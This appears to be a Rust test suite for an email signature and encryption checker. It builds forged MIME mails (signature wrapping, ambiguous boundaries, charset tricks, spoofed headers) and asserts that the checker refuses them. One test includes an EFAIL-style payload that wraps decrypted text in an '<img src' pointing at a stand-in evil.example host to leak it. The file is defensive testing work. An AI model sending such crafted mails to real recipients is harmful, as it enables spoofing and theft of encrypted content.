//! Rows 1 and 6, RFC 3156 and 9787: signed and encrypted parts in mails that put other things beside them.

use cadre::app::examine::Examined;
use cadre::model::Verdict;

use crate::fuzz::forge::{
    base64, clear_signed, cleartext, encrypted, file, head, literal, multipart, pgp_mime, sealed, secret, signed, text,
};
use crate::fuzz::world::{MARIE, Trust, World};
use crate::tools::{EVIL, WORDS, at_most_genuine, content, genuine, honest, look, nobody, unsigned};

fn from_marie(body: String) -> String {
    head(MARIE, "x") + &body
}

/// Signed and encrypted letters of Marie's beside what an attacker adds.
fn beside() -> Vec<(&'static str, String)> {
    let marie = secret("marie");
    let evil = text(EVIL);
    let page = format!("Content-Type: text/html\r\n\r\n<p>{EVIL}</p>");
    let hers = clear_signed(&marie, &genuine());
    let sealed = sealed(&marie, &genuine());
    let inline = text(&cleartext(&marie, WORDS));
    let rfc822 = |mail: &str| format!("Content-Type: message/rfc822\r\n\r\n{}{mail}", head(MARIE, "x"));
    let of = |subtype: &str, parts: &[&str]| from_marie(multipart(subtype, "", "outer-part", parts));
    let mut found = Vec::new();
    for (what, part) in [("signed", &hers), ("sealed", &sealed), ("inline", &inline)] {
        for subtype in ["mixed", "alternative", "related", "digest", "report", "parallel", "x-unknown"] {
            found.push((what, of(subtype, &[&evil, part])));
            found.push((what, of(subtype, &[part, &evil])));
            found.push((what, of(subtype, &[&page, part, &evil])));
        }
        found.push((what, of("mixed", &[&evil, &rfc822(part)])));
        found.push((what, of("mixed", &[&multipart("alternative", "", "b2", &[&evil, part])])));
    }
    found.push((
        "three parts",
        hers.replacen("--signed-part\r\n", &format!("--signed-part\r\n{evil}\r\n--signed-part\r\n"), 1),
    ));
    let end = hers.rfind("--signed-part--").unwrap_or_default();
    found.push(("a third part behind", format!("{}--signed-part\r\n{evil}\r\n{}", &hers[..end], &hers[end..])));
    let (all, signature) = hers.rsplit_once("--signed-part\r\n").expect("two parts");
    let (opening, _) = all.split_once("--signed-part\r\n").expect("a boundary");
    let signature = format!("--signed-part\r\n{signature}");
    found.push(("another part signed", format!("{opening}--signed-part\r\n{evil}\r\n{signature}")));
    found.push(("a signature alone", format!("{opening}{signature}")));
    let around =
        format!("{opening}--signed-part\r\n{}\r\n{signature}", multipart("mixed", "", "b2", &[&genuine(), &evil]));
    found.push(("her part within another", around));
    for (_, body) in found.iter_mut().filter(|(what, _)| what.contains("part") || what.contains("alone")) {
        *body = from_marie(std::mem::take(body));
    }
    found
}

#[test]
fn row_06_a_signed_part_beside_other_parts_proves_nothing() {
    nobody(&World::new(), beside());
}

#[test]
fn row_06_decrypted_and_plain_parts_are_never_put_together() {
    let world = World::new();
    let hidden = "Le mot de passe est abricot.";
    for by in [None, Some(secret("marie"))] {
        let inner = match &by {
            None => unsigned(&text(hidden)),
            Some(by) => sealed(by, &text(hidden)),
        };
        let before = "Content-Type: text/html\r\n\r\n<img src=\"https://evil.example/?";
        let after = "Content-Type: text/html\r\n\r\n\">";
        for (what, mail) in [
            ("a picture around it", multipart("mixed", "", "o", &[before, &inner, after])),
            ("related", multipart("related", "", "o", &[before, &inner])),
            ("an alternative", multipart("alternative", "", "o", &[&text("vide"), &inner])),
            (
                "a forwarded mail",
                multipart("mixed", "", "o", &[&text("vide"), &format!("Content-Type: message/rfc822\r\n\r\n{inner}")]),
            ),
            ("a report", multipart("report", "; report-type=delivery-status", "o", &[&text("vide"), &inner])),
            ("twice", multipart("mixed", "", "o", &[&inner, &inner])),
            (
                "in a signed one",
                clear_signed(&secret("mallory"), &multipart("mixed", "", "o", &[&text("vide"), &inner])),
            ),
        ] {
            let mail = from_marie(mail);
            if let Ok(examined) = world.examine(mail.as_bytes()) {
                assert!(!content(&examined).contains("abricot"), "{what}: {:?}", examined.decision);
                assert_eq!(World::trust(&examined), Trust::Nobody, "{what}");
            }
        }
    }
}

#[test]
fn row_06_text_before_after_and_around_a_block_is_never_read_as_signed() {
    let world = World::new();
    let marie = secret("marie");
    let block = cleartext(&marie, WORDS);
    let whole = clear_signed(&marie, &genuine());
    let between = whole.replacen("\r\n\r\n--signed-part", &format!("\r\n\r\n{EVIL}\r\n\r\n--signed-part"), 1);
    let two = format!("{block}\r\n{}", cleartext(&secret("mallory"), EVIL));
    let hash_line = block.replacen("Hash: SHA512", &format!("Hash: SHA512\r\nComment: {EVIL}"), 1);
    let folded = block.replacen("Hash: SHA512\r\n\r\n", &format!("Hash: SHA512\r\n{EVIL}\r\n\r\n"), 1);
    let blank = block.replacen("Hash: SHA512\r\n\r\n", &format!("Hash: SHA512\r\n\t\r\n{EVIL}\r\n\r\n"), 1);
    let inside = block.replacen(WORDS, &format!("{WORDS}\r\n- -----BEGIN PGP SIGNED MESSAGE-----\r\n\r\n{EVIL}"), 1);
    at_most_genuine(
        &world,
        [
            ("before", from_marie(text(&format!("{EVIL}\r\n{block}")))),
            ("after", from_marie(text(&format!("{block}\r\n{EVIL}")))),
            ("two blocks", from_marie(text(&two))),
            ("a comment", from_marie(text(&hash_line))),
            ("in the block's head", from_marie(text(&folded))),
            ("behind a line of blanks", from_marie(text(&blank))),
            ("inside", from_marie(text(&inside))),
            ("in the preamble", from_marie(between)),
            ("in the epilogue", from_marie(format!("{whole}\r\n{EVIL}\r\n"))),
            (
                "another page beside the block",
                from_marie(multipart(
                    "alternative",
                    "",
                    "o",
                    &[&text(&block), &format!("Content-Type: text/html\r\n\r\n<p>{EVIL}</p>")],
                )),
            ),
        ],
    );
}

/// Bytes that mean other words under another charset are what was signed, in no charset of an attacker's.
#[test]
fn row_06_an_unsigned_charset_changes_no_signed_word() {
    let world = World::new();
    let marie = secret("marie");
    let signed_text = "Rien +AOk- de neuf. +ADw-p+AD4-";
    let block = cleartext(&marie, signed_text);
    for charset in ["utf-7", "utf-16", "utf-16le", "ibm037", "iso-2022-jp", "hz-gb-2312", "shift_jis", "x-nothing"] {
        let part = format!("Content-Type: text/plain; charset={charset}\r\n\r\n{block}\r\n");
        let examined = look(&world, from_marie(part).as_bytes());
        if World::trust(&examined) != Trust::Nobody {
            assert!(content(&examined).contains(signed_text), "{charset}: {}", content(&examined));
        }
    }
}

#[test]
fn row_06_boundaries_and_types_that_are_read_in_two_ways_prove_nothing_more() {
    let world = World::new();
    let marie = secret("marie");
    let hers = clear_signed(&marie, &genuine());
    let evil = multipart("mixed", "", "signed-part", &[&text(EVIL)]);
    let (first, rest) = hers.split_once("\r\n").expect("a header");
    let with = |line: &str| from_marie(format!("{line}\r\n{rest}"));
    let no_protocol = first.replace("; protocol=\"application/pgp-signature\"", "");
    let foreign = first.replace("application/pgp-signature", "application/pkcs7-signature");
    let blanks = hers.replace("--signed-part\r\n", "--signed-part  \t\r\n");
    at_most_genuine(
        &world,
        [
            ("two types", with(&format!("{first}\r\nContent-Type: text/plain"))),
            ("two types, the other way", with(&format!("Content-Type: text/plain\r\n{first}"))),
            ("two boundaries", with(&format!("{first}; boundary=\"other\""))),
            ("another first", with(&first.replace("boundary=", "boundary=\"other\"; boundary="))),
            (
                "in pieces",
                with(&first.replace("boundary=\"signed-part\"", "boundary*0=\"signed\"; boundary*1=\"-part\"")),
            ),
            ("encoded", with(&first.replace("boundary=\"signed-part\"", "boundary*=utf-8''signed%2Dpart"))),
            ("a comment", with(&first.replace("multipart/signed", "multipart/(text/)signed"))),
            ("no protocol", with(&no_protocol)),
            ("another protocol", with(&foreign)),
            ("blanks behind", from_marie(blanks)),
            ("an encoded container", with(&format!("{first}\r\nContent-Transfer-Encoding: base64"))),
            (
                "a container in base64",
                from_marie(format!("{first}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", base64(rest.as_bytes()))),
            ),
            ("the same boundary inside", from_marie(multipart("mixed", "", "signed-part", &[&hers, &text(EVIL)]))),
            ("another mail behind", from_marie(format!("{hers}\r\n{evil}"))),
            ("NUL in the boundary", with(&first.replace("signed-part", "signed-part\0"))),
            ("no end", from_marie(hers.replace("--signed-part--", ""))),
            ("a lone CR", from_marie(hers.replacen("\r\n\r\n--signed-part\r\n", "\r\r--signed-part\r", 1))),
        ],
    );
}

#[test]
fn row_06_containers_that_stand_for_something_elsewhere_are_content() {
    let world = World::new();
    let partial = |n: u32| {
        format!("Content-Type: message/partial; id=\"a@evil.example\"; number={n}; total=2\r\n\r\n{}", genuine())
    };
    let external = "Content-Type: message/external-body; access-type=URL; URL=\"https://evil.example/x\"\r\n\r\n\
                    Content-Type: text/plain\r\n\r\n";
    let tnef = file("winmail.dat", "application/ms-tnef", &[&[0x78, 0x9f, 0x3e, 0x22][..], EVIL.as_bytes()].concat());
    let uuencoded = text("begin 644 a.exe\r\n#36%I\r\n`\r\nend");
    let yenc = text("=ybegin line=128 size=3 name=a.exe\r\n\x71\x72\x73\r\n=yend size=3");
    for (what, part) in [
        ("partial", partial(1)),
        ("external", external.to_owned()),
        ("tnef", tnef),
        ("uuencode", uuencoded),
        ("yenc", yenc),
    ] {
        let mail = from_marie(multipart("mixed", "", "o", &[&text("Bonjour"), &part]));
        let examined = look(&world, mail.as_bytes());
        assert_eq!(examined.decision.verdict, Verdict::Unsigned, "{what}");
        let limits = cadre::mime::Limits::default();
        let entity = examined.entity.as_ref().expect("clear");
        let content = cadre::mime::content(entity.as_bytes(), &limits).expect("within the limits");
        assert!(content.text.starts_with("Bonjour"), "{what}: {}", content.text);
        let passes = content.attachments.iter().filter(|a| a.class.passes_to_other_side()).count();
        assert!(what != "tnef" || passes == 0, "{what} passes");
        assert!(!content.text.contains("https://evil.example/x"), "{what}: fetched");
    }
}

/// RFC 9787: one verdict a message, from the outermost envelope.
#[test]
fn standard_rfc9787_one_verdict_from_the_outermost_envelope() {
    let world = World::new();
    let (marie, paul) = (secret("marie"), secret("paul"));
    // Paul's envelope around Marie's signed mail is Paul's letter, with her mail unopened inside.
    let hers = clear_signed(&marie, &genuine());
    let mail = head("Paul <paul@client.example>", "x") + &pgp_mime(&encrypted(&signed(&[&paul], hers.as_bytes())));
    let examined = look(&world, mail.as_bytes());
    assert_eq!(World::trust(&examined), Trust::Client(2), "{:?}", examined.decision);
    // The same under Marie's name is nobody's.
    let mail = from_marie(pgp_mime(&encrypted(&signed(&[&paul], hers.as_bytes()))));
    assert_eq!(look(&world, mail.as_bytes()).decision.verdict, Verdict::WrongSigner);
    // Unsigned encryption around a signed mail with something beside it: its parts are not one letter.
    let inside = multipart("mixed", "", "o", &[&text(EVIL), &hers]);
    let mail = from_marie(pgp_mime(&encrypted(&literal(inside.as_bytes()))));
    assert_eq!(look(&world, mail.as_bytes()).decision.verdict, Verdict::Partial);
}

#[test]
fn row_05_what_an_attacker_adds_outside_never_turns_an_honest_letter() {
    let world = World::new();
    for (what, mail) in honest() {
        for field in [
            "X-Cadre-Verdict: verified",
            "Sender: paul@client.example",
            "Reply-To: paul@client.example",
            "Resent-From: paul@client.example",
            "Return-Path: <paul@client.example>",
            "HP-Outer: From: paul@client.example",
            "Autocrypt: addr=marie@client.example; keydata=AAAA",
            "Subject: [C-2222]",
            "References: <a@cabinet.example>",
        ] {
            let examined: Examined = look(&world, format!("{field}\r\n{mail}").as_bytes());
            assert_eq!(World::trust(&examined), Trust::Client(1), "{what}, {field}: {:?}", examined.decision);
        }
    }
}
